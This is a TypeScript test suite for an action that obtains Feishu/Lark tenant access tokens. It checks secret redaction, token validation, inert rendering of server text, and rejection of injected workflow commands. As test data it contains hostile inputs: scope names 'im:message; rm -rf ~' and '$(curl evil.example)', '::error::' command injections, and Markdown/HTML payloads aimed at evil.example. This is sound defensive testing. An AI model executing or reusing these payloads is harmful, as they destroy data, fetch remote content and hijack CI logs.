// Hostile answers and odd inputs: each hole a probe of the built action found, closed at its mechanism.
import MarkdownIt from 'markdown-it'
import { run } from '../src/main.js'
import { renderSummary } from '../src/summary/render.js'
import { testDeps } from './support/deps.js'
import { type FakeCore, fakeCore } from './support/fake-core.js'
import { findLeaks, leakedPart, leaks } from './support/leaks.js'
import { runAction } from '../harness/run-action.js'
import { type Fault, type Sandbox, TEST_APP, faults, startSandbox } from '../harness/sandbox.js'

let sandbox: Sandbox
beforeEach(async () => {
  sandbox = await startSandbox()
})
afterEach(async () => {
  await sandbox.close()
})

async function runWith(inputs: Record<string, string>, ...answers: Fault[]): Promise<FakeCore> {
  sandbox.failNext(...answers)
  const core = fakeCore({
    'app-id': TEST_APP.appId,
    'app-secret': TEST_APP.appSecret,
    'base-url': sandbox.url,
    'max-attempts': '1',
    ...inputs
  })
  await run(testDeps(core))
  return core
}

/** Everything the run wrote where a secret must never be: logs, errors, debug lines, the summary, every output but `token`. */
function everywhere(core: FakeCore): Record<string, string> {
  const { token: _token, ...outputs } = core.outputs
  return { printed: core.printed, outputs: JSON.stringify(outputs) }
}

const issued = { code: 0, msg: 'ok', tenant_access_token: 't-f3a9c2e7b1d8465a0c9e', expire: 7200 }
const TOKEN = issued.tenant_access_token

describe('1. secrets are redacted before any text is shortened or escaped', () => {
  it.each([
    [
      'msg, where a cut at 200 characters falls inside the secret',
      (s: string) => faults.json(400, { code: 99999, msg: `${'x'.repeat(190)}${s}` })
    ],
    [
      'error.troubleshooter',
      (s: string) => faults.json(400, { code: 99999, msg: 'no', error: { troubleshooter: `https://t.example/${'y'.repeat(170)}${s}` } })
    ],
    [
      'error.log_id, when no log id header came',
      (s: string): Fault =>
        (req, res) => {
          res.removeHeader('x-tt-logid')
          faults.json(400, { code: 99999, msg: 'no', error: { log_id: `${'z'.repeat(188)}${s}` } })(req, res)
        }
    ],
    ['the x-tt-logid header', (s: string) => faults.json(400, { code: 99999, msg: 'no' }, { 'x-tt-logid': `${'L'.repeat(188)}${s}` })],
    ['msg, with a secret that holds Markdown and JSON metacharacters', (s: string) => faults.json(400, { code: 99999, msg: `echo ${s}` })]
  ])('%s', async (_where, answer) => {
    const secret = 'SECRET|with`tick"quote\\0123456789abcdef'
    const core = await runWith({ 'app-secret': secret }, answer(secret))
    expect(core.failed).toBeDefined()
    expect(leaks(everywhere(core), [secret])).toEqual([])
  })

  it('the token, echoed by the scopes call past the cut', async () => {
    const core = await runWith(
      { 'required-scopes': 'im:message' },
      faults.json(200, issued),
      faults.json(400, { code: 99991663, msg: `${'x'.repeat(185)}${TOKEN}` })
    )
    expect(core.failed).toMatch(/code 99991663/)
    expect(leaks(everywhere(core), [TOKEN, TEST_APP.appSecret])).toEqual([])
  })

  it('in the built action, with the runner masking too', async () => {
    const secret = 'SECRET|with`tick0123456789abcdef'
    sandbox.failNext(faults.json(400, { code: 99999, msg: `${'x'.repeat(190)}${secret}` }, { 'x-tt-logid': `${'L'.repeat(190)}${secret}` }))
    const result = await runAction({
      inputs: { 'app-id': TEST_APP.appId, 'app-secret': secret, 'base-url': sandbox.url },
      env: { RUNNER_DEBUG: '1' }
    })
    expect(result.exitCode).toBe(1)
    expect(findLeaks(result, [secret])).toEqual([])
  })
})

describe('2. the token must be a token', () => {
  it.each([
    ['a control character', 't-abc\u0007def'],
    ['a bidi mark', 't-abc\u202edef'],
    ['non-ASCII', 't-abcdéf'],
    ['a space', 't-abc def'],
    ['hundreds of KB', `t-${'a'.repeat(300 * 1024)}`]
  ])('%s: a malformed answer, never masked or output', async (_what, token) => {
    const core = await runWith({}, faults.json(200, { ...issued, tenant_access_token: token }))
    expect(core.failed).toMatch(/^Could not get a tenant access token: .*answered code 0 but 'tenant_access_token'/)
    expect(core.events.filter(e => e.type === 'setSecret')).toHaveLength(1)
    expect(core.outputs).toEqual({})
  })

  it('accepts a 16 KB JWT-style token', async () => {
    const jwt = `eyJ${'a'.repeat(8 * 1024)}.eyJ${'b'.repeat(8 * 1024)}.sig-_`
    const core = await runWith({}, faults.json(200, { ...issued, tenant_access_token: jwt }))
    expect(core.failed).toBeUndefined()
    expect(core.outputs.token).toBe(jwt)
  })

  it.each([1e15, 2 ** 53 - 1, 31 * 24 * 3600])('an expire of %d seconds is a malformed answer, not a RangeError', async expire => {
    const core = await runWith({}, faults.json(200, { ...issued, expire }))
    expect(core.failed).toMatch(/^Could not get a tenant access token: .*'expire' is \d+ seconds, more than/)
    expect(core.outputs).toEqual({})
  })
})

describe('3. server text is inert in the job summary', () => {
  const md = new MarkdownIt({ html: true, linkify: true })
  const hostile =
    '[click](https://evil.example/a) ![x](https://evil.example/i.png) <img src=https://evil.example/h.png> **bold** https://evil.example/auto | ` <b>'

  it.each([
    ['msg', faults.json(400, { code: 99999, msg: hostile })],
    ['troubleshooter and log id', faults.json(400, { code: 99999, msg: 'no', error: { troubleshooter: hostile, log_id: hostile } })],
    ['content type', faults.text(200, 'nope', hostile)],
    ['redirect location', faults.redirect('https://evil.example/x?[a](https://evil.example/b)')]
  ])('%s: no link, image, emphasis or HTML takes effect', async (_where, answer) => {
    const core = await runWith({}, answer)
    const html = md.render(core.summaryText)
    expect(html).not.toMatch(/<a |<img|<strong>|<em>|<b>/)
    expect(html).toContain('<pre><code class="language-text">Could not get a tenant access token')
  })

  it('our own link still works, with an odd App ID made harmless', () => {
    const text = renderSummary({
      outcome: 'failed',
      endpoint: { baseUrl: 'https://open.feishu.cn', region: 'feishu' },
      appId: 'cli_x)![i](https://evil.example/i.png)',
      gate: {
        check: {
          statuses: [{ scope: 'im:message', status: 'not-configured' }],
          granted: [],
          missing: ['im:message'],
          unexpected: [],
          ignored: [],
          unknownTypes: [],
          awaiting: []
        },
        onMissing: 'fail',
        onUnexpected: 'ignore',
        requestApproval: false,
        grantLink: 'https://open.feishu.cn/app/cli_x)![i](https://evil.example/i.png)/auth?q=im:message'
      }
    })
    const html = md.render(text)
    expect(html.match(/<a /g)).toHaveLength(1)
    expect(html).not.toContain('<img')
    expect(html).toContain('href="https://open.feishu.cn/app/cli_x%29!%5Bi%5D%28https://evil.example/i.png%29/auth?q=im:message"')
  })
})

describe('4. inputs cannot write workflow commands', () => {
  it.each([
    ['app-id', `${TEST_APP.appId}\n::error::injected`],
    ['app-id', `${TEST_APP.appId}\u202e`],
    ['region', 'lark\r\n::warning::injected'],
    ['base-url', 'https://open.feishu.cn\u0001'],
    ['timeout-seconds', '10\n::error::injected'],
    ['app-secret', 'SECRET\n::error::injected0123456789']
  ])('%s with %j: an input error before any request, the value never printed', async (name, value) => {
    const result = await runAction({
      inputs: { 'app-id': TEST_APP.appId, 'app-secret': TEST_APP.appSecret, 'base-url': sandbox.url, [name]: value }
    })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(new RegExp(`^Input '${name}' contains a line break, control character or invisible formatting character`))
    ])
    // The mask command itself carries the value, escaped: the runner reads it as one command.
    expect(
      result.stdout
        .split('\n')
        .filter(line => !line.startsWith('::add-mask::'))
        .join('\n')
    ).not.toContain('injected')
    expect(result.summary).not.toContain('injected')
    expect(sandbox.requests).toHaveLength(0)
  })

  it('required-scopes may span lines, but not hold other control characters', async () => {
    expect((await runWith({ 'required-scopes': 'im:message\r\n\tbitable:app' })).failed).toMatch(/^1 of 2 required scopes is missing/)
    expect((await runWith({ 'required-scopes': 'im:message\u001b[31m' })).failed).toMatch(
      /^Input 'required-scopes', line 1 \("im:message\\u001B\[31m"\), contains an invisible or control character \(\\u001B\)/
    )
  })
})

describe('5. scope outputs hold only scope names', () => {
  it('drops anything else the server lists, and says so in a debug line', async () => {
    const names = [
      'im:message',
      'im:message; rm -rf ~',
      '$(curl evil.example)',
      'a:b\n::error::x',
      TEST_APP.appSecret,
      `x:${TOKEN}`,
      'IM:MESSAGE'
    ]
    const core = await runWith(
      { 'required-scopes': 'im:message' },
      faults.json(200, issued),
      faults.json(200, { code: 0, data: { scopes: names.map(scope_name => ({ scope_name, grant_status: 1 })) } })
    )
    expect(core.failed).toBeUndefined()
    expect(core.outputs['granted-scopes']).toBe('["im:message"]')
    expect(core.events).toContainEqual({
      type: 'debug',
      message: expect.stringMatching(/^Left out 6 listed name\(s\) that are not scope names: /)
    })
    expect(leaks(everywhere(core), [TEST_APP.appSecret, TOKEN])).toEqual([])
    expect(core.printed).not.toMatch(/\n::/)
  })
})

describe('6. credentials in base-url are never echoed', () => {
  it.each([
    'https://user:pa55word@host.example/path',
    'https:user:pa55word@host.example/path',
    'https:/user:pa55word@host.example/path',
    'https:\\\\user:pa55word@host.example/path',
    'https:\\user:pa55word@host.example',
    'ftp://user:pa55word@host.example',
    'user:pa55word@host.example'
  ])('%s', async value => {
    const core = await runWith({ 'base-url': value })
    expect(core.failed).toMatch(/^Input 'base-url'/)
    expect(core.printed).not.toMatch(/pa55word|user/)
  })
})

describe('7-8. the words name the right hosts and regions', () => {
  it('a protocol-relative redirect names its host', async () => {
    const core = await runWith({}, faults.redirect('//other.example/x'))
    expect(core.failed).toMatch(/redirect to other\.example\./)
  })

  it('a backslash redirect names its host', async () => {
    const core = await runWith({}, faults.redirect('/\\other.example/x'))
    expect(core.failed).toMatch(/redirect to other\.example\./)
  })

  it.each([
    ['10014 app id not exists', faults.json(200, { code: 10014, msg: 'app id not exists' })],
    ['1000040351 Incorrect domain name', faults.json(400, { code: 1000040351, msg: 'Incorrect domain name' })]
  ])('with a custom base-url, %s names both regions', async (_what, answer) => {
    const core = await runWith({}, answer)
    expect(core.failed).toMatch(/`region: feishu` \(https:\/\/open\.feishu\.cn\).*`region: lark` \(https:\/\/open\.larksuite\.com\)/)
  })
})

it('leakedPart finds 8 characters of a secret in a row, and nothing shorter', () => {
  expect(leakedPart('…456789ab…', '0123456789abcdef')).toBe('456789ab')
  expect(leakedPart('…456789a…', '0123456789abcdef')).toBeUndefined()
})
